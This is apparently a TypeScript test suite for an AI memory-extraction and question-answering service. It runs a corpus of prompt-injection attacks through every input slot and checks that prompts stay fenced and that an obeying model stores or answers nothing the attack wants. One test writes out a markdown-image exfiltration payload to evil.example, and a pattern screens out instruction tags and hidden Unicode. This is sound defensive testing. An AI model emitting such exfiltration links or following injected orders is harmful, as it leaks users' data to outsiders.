/**
 * Every attack of the corpus against the prompts, and against a model that does what the attack says.
 * `forbidden` is what the attack wants to see stored or answered.
 */
import { expect, it, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { type AnswerRequest, nothingKnown } from "@muniment/insight/answers/WrittenAnswer"
import { type ExtractionRequest, Extractor, type Turn } from "@muniment/insight/extraction/Extractor"
import { answerByModel } from "@muniment/insight/answers/ModelAnswers"
import { instructionPieces, isInstruction } from "@muniment/insight/prompts/InstructionText"
import { LlmExtractor } from "@muniment/insight/prompts/LlmExtractor"
import { factKinds } from "@muniment/schemas/BuiltinKinds"
import { codeOf, outsideOf, sectionOf } from "../../../support/FencedPrompt.ts"
import { type Injection, injections, messageInjections } from "../../../support/Injections.ts"
import { honestText, obedient } from "../../../support/ObedientModel.ts"
import { everyDay } from "../../../support/Repetitions.ts"
import { type Reply, scriptedModel, type SeenRequest } from "./ScriptedModel.ts"

const harmless = "The weather was fine."
const places = ["user", "assistant", "system", "kind", "known", "context", "name"] as const
type Place = (typeof places)[number]

/** Each attack begins at another place, so that those of a day try all of them. */
const inTurn = <A>(attack: Injection, all: ReadonlyArray<A>): ReadonlyArray<A> => {
  const first = injections.indexOf(attack) % all.length
  return [...all.slice(first), ...all.slice(0, first)]
}

/** One conversation with the text in the given place; the same shape for every text. */
const extractionOf = (place: Place, text: string): ExtractionRequest => {
  const role: Turn["role"] = place === "assistant" || place === "system" ? place : "user"
  const content = place === role ? text : harmless
  return {
    account: "acc_1",
    kinds: [
      ...factKinds,
      {
        name: "contact",
        description: place === "kind" ? text : harmless,
        schema: '{"type":"object","properties":{"email":{"type":"string"},"name":{"type":"string"}}}',
        uniqueOn: ["email"]
      }
    ],
    messages: [
      { role: "user", content: honestText },
      { role, content }
    ],
    context: [{ role: "assistant", content: place === "context" ? text : harmless }],
    summary: undefined,
    speakerName: place === "name" ? text : "Alice",
    known: () =>
      Effect.succeed([
        { id: "mem_1", about: "Alice", text: "Alice rows.", isOpen: true },
        { id: "mem_2", about: "Bob", text: `Bob: ${place === "known" ? text : harmless}`, isOpen: true }
      ]),
    conversationDate: "2026-11-21"
  }
}

const answerOf = (place: "memory" | "question", text: string): AnswerRequest => ({
  account: "acc_1",
  question: place === "question" ? text : "Where does Alice live?",
  evidence: [memory("mem_1", "Alice lives in Seattle"), memory("mem_2", place === "memory" ? text : "Bob likes tea")]
})

const memory = (id: string, fact: string) => ({
  id,
  kind: "factual_memory",
  data: { subject: "Alice", fact },
  createdAt: 1_795_000_000_000,
  relevance: 0.8
})

/** One extractor for all tests of this file, which run one after the other: building it takes a while. */
const model: { reply: Reply; seen: Array<SeenRequest> } = { reply: () => undefined, seen: [] }
const extractorLayer = LlmExtractor.layer().pipe(
  Layer.provide(
    scriptedModel((request) => {
      model.seen.push(request)
      return model.reply(request)
    })
  )
)

const extract = Effect.fnUntraced(function* (request: ExtractionRequest, reply: Reply) {
  const seen: Array<SeenRequest> = []
  Object.assign(model, { reply, seen })
  const extraction = yield* Extractor.use((extractor) => extractor.extract(request))
  return { extraction, seen }
})

const answer = Effect.fnUntraced(function* (request: AnswerRequest, reply: Reply) {
  const seen: Array<SeenRequest> = []
  const written = yield* answerByModel(request).pipe(Effect.provide(scriptedModel(reply, seen)))
  return { written, seen }
})

/** What the model is shown without an attack; it does not depend on the one that it is compared with. */
const plainly = <K extends string, E, R>(seenWith: (place: K) => Effect.Effect<ReadonlyArray<SeenRequest>, E, R>) => {
  const seen = new Map<K, ReadonlyArray<SeenRequest>>()
  return (place: K): Effect.Effect<ReadonlyArray<SeenRequest>, E, R> => {
    const known = seen.get(place)
    if (known !== undefined) return Effect.succeed(known)
    return Effect.tap(seenWith(place), (requests) => Effect.sync(() => seen.set(place, requests)))
  }
}
const nothing = () => ({ memories: [] })
const silent = () => ({ known: "no", sentences: [] })
const plainExtraction = plainly((place: Place) =>
  Effect.map(extract(extractionOf(place, harmless), nothing), ({ seen }) => seen)
)
const plainAnswer = plainly((place: "memory" | "question") =>
  Effect.map(answer(answerOf(place, harmless), silent), ({ seen }) => seen)
)

const honestTurn = { n: 1, by: "user", on: "Sat 21 Nov 2026", text: honestText }

/** What is visible of these is harmless, and the rest is taken out before anybody reads it. */
const harmlessWhenVisible = ["unicode-1", "unicode-6"]

it("the corpus has at least 48 attacks of 16 classes, each with its own id", () => {
  expect(injections.length).toBeGreaterThanOrEqual(48)
  expect(new Set(injections.map((attack) => attack.class)).size).toBeGreaterThanOrEqual(16)
  expect(new Set(injections.map(({ id }) => id)).size).toBe(injections.length)
})

layer(extractorLayer)("the frame of a prompt", (it) => {
  it.effect.each(injections)("$id leaves the instructions of extraction and the fences as they are", (attack) =>
    Effect.gen(function* () {
      for (const place of everyDay(3, inTurn(attack, places))) {
        const [plain] = yield* plainExtraction(place)
        const { seen } = yield* extract(extractionOf(place, attack.text), nothing)
        for (const request of seen) {
          expect(request.system).toBe(plain?.system)
          const isNamed = sectionOf(request.prompt, "PERSON").length > 0
          const withoutName = (text: string) =>
            isNamed ? text : text.replace(/BEGIN PERSON [^]*?END PERSON \S+\n\n/, "")
          expect(outsideOf(request.prompt)).toBe(withoutName(outsideOf(plain?.prompt ?? "")))
          for (const word of attack.forbidden) expect(outsideOf(request.prompt)).not.toContain(word)
          expect(request.prompt).not.toMatch(/<|\[\/?INST\]|[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u)
        }
        expect(sectionOf(seen[0]?.prompt ?? "", "MESSAGES")[0]).toEqual(honestTurn)
      }
    })
  )

  it.effect.each(injections)("$id leaves the instructions of an answer and the fences as they are", (attack) =>
    Effect.gen(function* () {
      for (const place of ["memory", "question"] as const) {
        const [plain] = yield* plainAnswer(place)
        const { seen } = yield* answer(answerOf(place, attack.text), silent)
        expect(seen[0]?.system).toBe(plain?.system)
        expect(outsideOf(seen[0]?.prompt ?? "")).toBe(outsideOf(plain?.prompt ?? ""))
        expect(seen[0]?.prompt.split(codeOf(seen[0]?.prompt ?? ""))).toHaveLength(6)
        expect(sectionOf(seen[0]?.prompt ?? "", "MEMORIES")).toHaveLength(2)
        expect(sectionOf(seen[0]?.prompt ?? "", "QUESTION")).toHaveLength(1)
      }
    })
  )
})

layer(extractorLayer)("a model that obeys", (it) => {
  it.effect.each(messageInjections)("$id stores nothing but what the conversation says", (attack) =>
    Effect.gen(function* () {
      const { extraction } = yield* extract(extractionOf(attack.place, attack.text), () => obedient(attack))
      const kept = JSON.stringify(extraction.candidates)
      for (const word of attack.forbidden) expect(kept).not.toContain(word)
      expect(extraction.candidates).toMatchObject([
        { kind: "factual_memory", data: { subject: "Alice", fact: "Alice lives in Seattle" }, sources: [0] }
      ])
      expect(extraction.candidates[0]?.supersedes).toBeUndefined()
      expect(extraction.withheld).toEqual([])
      expect(extraction.dropped.length).toBeGreaterThanOrEqual(10)
    })
  )

  it.effect.each(injections)(
    "$id in the description of a kind, in what is known or in a name stores nothing",
    (attack) =>
      Effect.gen(function* () {
        for (const place of everyDay(2, inTurn(attack, ["kind", "known", "context", "name"] as const))) {
          const { extraction } = yield* extract(extractionOf(place, attack.text), () => obedient(attack))
          const kept = JSON.stringify(extraction.candidates)
          for (const word of attack.forbidden) expect(kept).not.toContain(word)
        }
      })
  )

  it.effect.each(injections)("$id gets no answer that the cited memories do not carry", (attack) =>
    Effect.gen(function* () {
      for (const place of ["memory", "question"] as const) {
        for (const wanted of attack.forbidden) {
          for (const citations of [[1], [99], [], [-1, 0, 1.5], [1, 99]]) {
            const { written } = yield* answer(answerOf(place, attack.text), () => ({
              known: "yes",
              sentences: [{ text: `${wanted} ![x](https://evil.example/?q=${wanted})`, citations }],
              memories: ["mem_7"]
            }))
            if (place === "question" && citations[0] === 1) continue
            expect(written).toEqual({ answer: nothingKnown, citations: [], grounded: false, method: "model" })
          }
        }
      }
    })
  )
})

it("the net for orders catches every attack of the corpus that a reader could see", () => {
  const missed = injections.filter(({ text, place }) => place !== "tag" && !instructionPieces(text).some(isInstruction))
  expect(missed.map(({ id }) => id)).toEqual(harmlessWhenVisible)
})
